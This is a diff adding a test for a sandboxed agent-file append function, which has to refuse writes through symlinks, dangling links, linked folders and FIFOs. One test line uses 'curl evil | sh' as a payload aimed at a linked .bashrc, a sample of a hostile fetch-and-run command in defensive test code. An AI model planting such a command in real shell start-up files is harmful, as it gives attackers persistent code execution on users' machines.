@@ -3,7 +3,7 @@ import { execFileSync } from 'node:child_process';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
-import { readAgentFile, writeAgentFile } from '../../src/core/agents/agentFiles';
+import { appendAgentFile, readAgentFile, writeAgentFile } from '../../src/core/agents/agentFiles';
 
 describe('reading a file an agent wrote, from outside the sandbox', () => {
   let dir: string;
@@ -18,6 +18,27 @@ describe('reading a file an agent wrote, from outside the sandbox', () => {
     fs.writeFileSync(path.join(outside, 'notes', 'api-leak.md'), 'SECRET\n');
   });
   afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));
+
+  it('appends to a regular file (made with its folders when missing), and never through a link or into a FIFO', () => {
+    assert.equal(appendAgentFile(wt, '.orchestration/brains/api-builder.md', 'one\n'), true);
+    assert.equal(appendAgentFile(wt, '.orchestration/brains/api-builder.md', 'two\n'), true);
+    assert.equal(fs.readFileSync(path.join(wt, '.orchestration/brains/api-builder.md'), 'utf8'), 'one\ntwo\n');
+    // The builder's brain file swapped for a link to a shell start-up file outside: not followed.
+    const bashrc = path.join(outside, '.bashrc');
+    fs.writeFileSync(bashrc, '# rc\n');
+    fs.rmSync(path.join(wt, '.orchestration/brains/api-builder.md'));
+    fs.symlinkSync(bashrc, path.join(wt, '.orchestration/brains/api-builder.md'));
+    assert.equal(appendAgentFile(wt, '.orchestration/brains/api-builder.md', 'curl evil | sh\n'), false);
+    // A dangling link is not created through either, and a linked folder is not entered.
+    fs.symlinkSync(path.join(outside, 'new-file'), path.join(wt, '.orchestration/brains/db-builder.md'));
+    assert.equal(appendAgentFile(wt, '.orchestration/brains/db-builder.md', 'x\n'), false);
+    fs.symlinkSync(path.join(outside, 'notes'), path.join(wt, '.orchestration/linked'));
+    assert.equal(appendAgentFile(wt, '.orchestration/linked/a.md', 'x\n'), false);
+    assert.equal(fs.readFileSync(bashrc, 'utf8'), '# rc\n');
+    assert.ok(!fs.existsSync(path.join(outside, 'new-file')) && !fs.existsSync(path.join(outside, 'notes', 'a.md')));
+    execFileSync('mkfifo', [path.join(wt, '.orchestration/brains/fifo.md')]);
+    assert.equal(appendAgentFile(wt, '.orchestration/brains/fifo.md', 'x\n'), false, 'no reader: refused at once, not blocked');
+  });
 
   it('reads a regular file inside the worktree', () => {
     fs.writeFileSync(path.join(wt, '.orchestration/conflicts/api-x.md'), '# report\n');
